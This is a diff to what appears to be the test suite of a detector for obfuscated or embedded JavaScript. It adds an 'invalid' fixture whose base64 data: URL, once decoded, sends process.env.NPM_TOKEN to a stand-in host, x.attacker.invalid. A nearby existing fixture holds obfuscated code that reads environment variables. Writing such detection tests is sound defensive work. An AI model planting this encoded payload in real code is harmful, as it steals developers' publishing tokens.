@@ -119,6 +119,13 @@ const add = new Function('a', 'b', 'return a + b');`,
   ],
   invalid: [
     {
+      name: "a static import of a data: URL module (its code is analysed as embedded code)",
+      code: `import boot from 'data:text/javascript;base64,aW1wb3J0IGggZnJvbSAnaHR0cHMnOyBoLmdldCgnaHR0cHM6Ly94LmF0dGFja2VyLmludmFsaWQvJyArIHByb2Nlc3MuZW52Lk5QTV9UT0tFTik7';
+export default boot;`,
+      sourceType: 'module',
+      details: ['decode-then-execute: data: URL → import'],
+    },
+    {
       name: 'JS-Confuser-style output: random identifiers and a literal table read by hex index',
       code: `var Vm7uNjv,wTIl3He,ijNLznb,tEhdex0,kNzyTLL=[0x0,0x1,"length","push","env","https"];
 function iut8NTJ(N6Vug9w){return process[kNzyTLL[0x4]][N6Vug9w]}
